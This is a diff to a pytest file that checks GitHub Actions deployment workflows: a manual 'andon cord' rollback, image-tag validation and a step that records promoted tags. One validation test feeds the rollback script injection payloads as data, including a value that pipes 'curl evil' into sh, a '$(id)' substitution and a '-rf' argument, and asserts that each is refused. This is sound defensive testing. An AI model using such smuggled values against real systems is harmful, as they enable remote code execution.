@@ -20,7 +20,15 @@ import yaml
 
 from tests.build.repo_copy import SANDBOX_ROOT
 from tests.lockfiles import DEFAULT_LOCK, locked_version
-from tests.workflow_steps import GIT_ENV, WORKFLOWS, git, load, run_step, step_script
+from tests.workflow_steps import (
+    WORKFLOWS,
+    git,
+    github_output,
+    load,
+    run_script,
+    run_step,
+    step_script,
+)
 
 CHECK_JSONSCHEMA_PEX = SANDBOX_ROOT / "tools" / "check-jsonschema.pex"
 SETUP_ACTION = SANDBOX_ROOT / ".github" / "actions" / "setup-pants" / "action.yml"
@@ -153,7 +161,7 @@ def test_the_andon_cord_is_manual_and_restores_the_previous_promoted_model() -> 
     assert set(triggers(workflow)) == {"workflow_dispatch"}
     assert triggers(workflow)["workflow_dispatch"]["inputs"]["reason"]["required"] is True
     run = commands(workflow)
-    assert "git tag --list 'promoted/*'" in run
+    assert 'tools/releases.py pick --requested="$REQUESTED"' in run
     assert '-target=module.serve -var="serve_image_digest=$DIGEST"' in run
     assert workflow["permissions"] == {"contents": "read"}
     jobs = workflow["jobs"]
@@ -191,19 +199,15 @@ def test_the_andon_cord_refuses_an_invalid_or_unpromoted_image_tag(tmp_path: Pat
         git(root, "tag", "-a", f"promoted/{image}", "-m", "promote")
     pick = step_script("andon-cord.yml", "rollback", step_id="pick")
     for bad, message in (
-        ('x"; curl evil | sh; "', "image_tag must be an image tag"),
-        ("$(id)", "image_tag must be an image tag"),
-        ("-rf", "image_tag must be an image tag"),
-        ("sha-zzz", "was never promoted"),
+        ('x"; curl evil | sh; "', "is not an image tag"),
+        ("$(id)", "is not an image tag"),
+        ("-rf", "is not an image tag"),
+        ("sha-zzz", "sha-zzz was never promoted"),
     ):
-        result = subprocess.run(
-            ["bash", "-c", pick],
-            cwd=root,
-            env={**GIT_ENV, "REQUESTED": bad, "GITHUB_OUTPUT": str(tmp_path / "out")},
-            capture_output=True,
-            text=True,
-        )
-        assert result.returncode == 1 and message in result.stdout, (bad, result.stdout)
+        result = run_script(pick, root, {"REQUESTED": bad})
+        assert result.returncode == 1, (bad, result.stderr)
+        assert result.stderr.startswith("::error::") and message in result.stderr
+        assert github_output(root).read_text() == ""  # no outputs on a refusal
 
 
 def test_every_checkout_drops_its_credentials() -> None:
@@ -292,7 +296,9 @@ def test_main_deploys_a_newly_promoted_model_with_the_andon_cord_s_lock() -> Non
     assert record["permissions"] == {"contents": "write"}
     assert record["needs"] == ["deploy"]
     assert record["if"] == "needs.deploy.outputs.deploy == 'true'"
-    assert 'git push origin "refs/tags/promoted/$IMAGE_TAG"' in str(record["steps"][-1]["run"])
+    recorded = str(record["steps"][-1]["run"])
+    assert 'tools/releases.py record promoted "$IMAGE_TAG"' in recorded
+    assert 'git push origin "$ref"' in recorded
     # The andon cord and a deployment never run at once.
     assert deploy["concurrency"]["group"] == load("andon-cord.yml")["concurrency"]["group"]
     steps = {str(step.get("name", step.get("uses"))): step for step in deploy["steps"]}
